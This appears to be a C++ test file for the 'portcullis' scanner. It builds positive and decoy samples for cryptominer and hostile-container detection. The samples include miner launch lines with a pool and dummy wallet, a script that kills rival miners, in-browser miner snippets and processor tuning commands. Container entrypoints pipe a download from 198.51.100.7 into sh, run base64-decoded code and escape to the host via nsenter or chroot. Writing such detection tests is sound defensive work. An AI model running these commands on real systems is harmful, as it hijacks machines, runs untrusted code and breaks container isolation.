// SPDX-License-Identifier: Apache-2.0
#include "samples_traits.hpp"

namespace portcullis::test {
namespace {

const std::string kPool = std::string("pool.support") + "xmr.com";
const std::string kDonate = std::string("--donate") + "-level";

/// The shape of a Monero address; nobody has the key to it.
std::string wallet() { return "4" + std::string("A") + std::string(93, 'x'); }

}  // namespace

std::vector<Sample> miner_program_samples() {
  const std::string subscribe = std::string("mining.") + "subscribe";
  const std::string authorize = std::string("mining.") + "authorize";
  const std::string url = std::string("  -o, --") + "url=URL   URL of mining server";
  const std::string shares = std::string("accepted: ") + "%lu/%lu (%.2f%%), %s khash/s (yay!!!)";
  const std::vector<std::string> gpu = {kStratum, "KAWPOW dag", "nvrtcCompileProgram", "%.2f MH/s"};
  const std::vector<std::string> login = {kPool, "{\"method\":\"login\",\"params\":", "job_id", "nonce"};
  std::string gpu_text;
  for (const auto& trait : gpu) gpu_text += trait + "\n";
  return {
      {"cpuminer", elf(kProgram, {subscribe, authorize, shares, url}), {"miner_cpuminer"}},
      {"cpuminer_library", elf(kLibrary, {subscribe, authorize, shares, url}), {"miner_cpuminer"}},
      {"pool_server", elf(kProgram, {subscribe, authorize, "share accepted"}), {}},
      {"cpuminer_manual", joined({subscribe, authorize, shares, url}), {}},
      {"gpu_miner", elf(kProgram, gpu), {"miner_gpu"}},
      {"gpu_miner_in_small_letters",
       elf(kProgram, {"stratum2+tcp", "ethash", "clEnqueueNDRangeKernel", "Mh/s"}),
       {"miner_gpu"}},
      {"gpu_renderer", elf(kProgram, {"nvrtcCompileProgram", "cuModuleLoadDataEx", "rays: %.1f MH/s"}), {}},
      {"blockchain_node", elf(kProgram, {"ethash", "progpow", "hash rate %d MH/s", "eth_getWork"}), {}},
      {"gpu_miner_traits_in_a_text", gpu_text, {}},
      {"pool_built_in", elf(kProgram, login), {"miner_built_in_pool"}},
      {"pool_in_a_blocker", elf(kProgram, {kPool, "blocked: mining pool", "nonce"}), {}},
      {"worker_without_pool", elf(kProgram, {"{\"method\":\"login\"", "job_id", "nonce"}), {}},
  };
}

std::vector<Sample> miner_script_samples() {
  const std::string run = joined({"./x -o ", kPool, ":3333 -u ", wallet(), " -p x\n"});
  const std::string kinsing = std::string("kin") + "sing";
  const std::string kdev = std::string("kdev") + "tmpfsi";
  const std::string rivals = joined({"pkill -f ", kinsing, "\npkill -f ", kdev, "\npkill -f xm",
                                     "rig\nkillall minerd\npkill -f watchbog\n"});
  const std::string unit = "[Unit]\nDescription=x\n[Service]\nExecStart=";
  const std::string msr = "modprobe msr\nwrmsr -a 0x1a4 0xf\nwrmsr -a 0xc0011020 0x4480000000000\n";
  const std::string coin = std::string("new Coin") + "Hive.Anonymous('" + std::string(32, 'k') + "')";
  return {
      {"wallet_script", kShebang + run, {"miner_wallet_script"}},
      {"wallet_script_by_variable",
       joined({kShebang, "WALLET=", wallet(), "\nPOOL=gulf.moneroocean.", "stream:10128\n"}),
       {"miner_wallet_script"}},
      {"wallet_in_a_document", "Our command: " + run, {}},
      {"pool_in_a_firewall_script", joined({kShebang, "iptables -A OUTPUT -d ", kPool, " -j DROP\n"}), {}},
      {"wallet_of_a_shop", joined({kShebang, "WALLET=", wallet(), "\npay $WALLET\n"}), {}},
      {"rivals", kShebang + rivals, {"miner_rival_killer"}},
      {"rivals_in_a_report", "The script does:\n" + rivals, {}},
      {"one_rival_removed", joined({kShebang, "pkill -f ", kinsing, "\npkill -f ", kdev, "\n"}), {}},
      {"checker_that_names_rivals",
       joined({kShebang, "for n in ", kinsing, " ", kdev, " xmrig minerd watchbog; do pgrep $n; done\n"}),
       {}},
      {"service_pool", joined({unit, "/opt/x -o ", kStratum, "h:1\n"}), {"miner_service_unit"}},
      {"service_donation", joined({unit, "/opt/x ", kDonate, " 1\n"}), {"miner_service_unit"}},
      {"service_name", joined({unit, "/usr/local/bin/xm", "rig -c /etc/x.json\n"}), {"miner_service_unit"}},
      {"service_of_a_pool", unit + "/usr/bin/pool-server --listen 3333\n", {}},
      {"service_in_a_comment", joined({unit, "/opt/x\n# not ExecStart=/opt/x ", kDonate, "\n"}), {}},
      {"web_miner", joined({"<script>var m = ", coin, "; m.start();</script>"}), {"miner_web_page"}},
      {"web_miner_of_another_kind",
       joined({"var c = new ", "Client.Anonymous('", std::string(64, 'a'), "', {throttle: 0}); c.start()"}),
       {"miner_web_page"}},
      {"web_miner_described", joined({"call new Coin", "Hive.Anonymous(SITE_KEY) and then .start()"}), {}},
      {"web_block_list", "||coin-hive.com^\n||coinhive.com/lib/coinhive.min.js\n", {}},
      {"processor_tuning",
       joined({kShebang, msr, "sysctl -w vm.nr_", "hugepages=1280\n"}),
       {"miner_processor_tuning"}},
      {"processor_reading", joined({kShebang, "modprobe msr\nrdmsr -a 0x1a4\n"}), {}},
      {"database_tuning", joined({kShebang, "sysctl -w vm.nr_", "hugepages=1280\n"}), {}},
  };
}

std::vector<Sample> config_samples() {
  const std::string path = "config!/rendered";
  const std::string entry = kShebang + "ENV PATH=/usr/bin\nENTRYPOINT ";
  const std::string text(80, 'Q');
  const std::string address = kCurl + "-s http://198.51.100.7/x";
  return {
      {"config_pool", joined({entry, "/x -o ", kStratum, "h:1\n"}), {"image_starts_miner"}, path},
      {"config_pool_in_env",
       joined({kShebang, "ENV A=1\nENV POOL=", kStratum, "h:1\n"}),
       {"image_starts_miner"},
       path},
      {"config_wallet", joined({entry, "/x\nCMD -o h:1 -u ", wallet(), "\n"}), {"image_starts_miner"}, path},
      {"config_pool_in_history",
       joined({kShebang, "CMD sh\nHISTORY RUN test ", kStratum, "h:1\n"}),
       {},
       path},
      {"config_pool_elsewhere", joined({entry, "/x -o ", kStratum, "h:1\n"}), {}},
      {"config_address",
       joined({entry, "sh -c ", address, kPipeShell}),
       {"download_and_run_from_address", "image_starts_download", "image_starts_download_from_address"},
       path},
      {"config_address_of_the_house",
       joined({entry, "sh -c ", kCurl, "http://10.0.0.1/x", kPipeShell}),
       {"download_and_run_from_address", "image_starts_download"},
       path},
      {"config_download",
       joined({entry, "sh -c ", kCurl, "-s https://example.org/x", kPipeShell}),
       {"image_starts_download"},
       path},
      {"config_download_to_file",
       joined({entry, "sh -c ", kCurl, "-so x https://example.org/x\n"}),
       {},
       path},
      {"config_built_by_download",
       joined({kShebang, "CMD sh\nHISTORY RUN ", kCurl, "-s https://deb.example.org/setup", kPipeShell}),
       {},
       path},
      {"config_encoded",
       joined({entry, "sh -c echo ", text, " | base64", " -d", kPipeShell}),
       {"encoded_and_run", "image_starts_encoded_command"},
       path},
      {"config_encoded_python",
       joined({entry, "python3 -c import base64;exec(base64.b64", "decode('", text, "'))\n"}),
       {"image_starts_encoded_command"},
       path},
      {"config_decodes_a_key",
       joined({entry, "sh -c echo $KEY | base64", " -d > /run/key && exec serve\n"}),
       {},
       path},
      {"config_python", joined({entry, "python3 -c import app; app.run()\n"}), {}, path},
      {"config_nsenter", joined({entry, "nsen", "ter -t 1 -m -u -n -i sh\n"}), {"image_starts_escape"}, path},
      {"config_chroot",
       joined({entry, "chroot /host sh -c echo x >> /etc/crontab\n"}),
       {"image_starts_escape"},
       path},
      {"config_nsenter_of_a_child", joined({entry, "nsen", "ter -t $PID -n ip addr\n"}), {}, path},
      {"config_chroot_of_a_node_agent", joined({entry, "chroot /host /usr/bin/agent\n"}), {}, path},
      {"config_hidden", joined({entry, "/tmp/.x/run\n"}), {"image_starts_hidden_program"}, path},
      {"config_hidden_behind_a_shell",
       joined({kShebang, "ENV A=1\nCMD sh -c cd /;/var/tmp/", ".sys -d\n"}),
       {"image_starts_hidden_program"},
       path},
      {"config_temporary", joined({entry, "/tmp/run.sh\n"}), {}, path},
      {"config_socket", joined({entry, "/usr/bin/Xvfb :1\nENV X=/tmp/", ".X11-unix\n"}), {}, path},
  };
}

}  // namespace portcullis::test
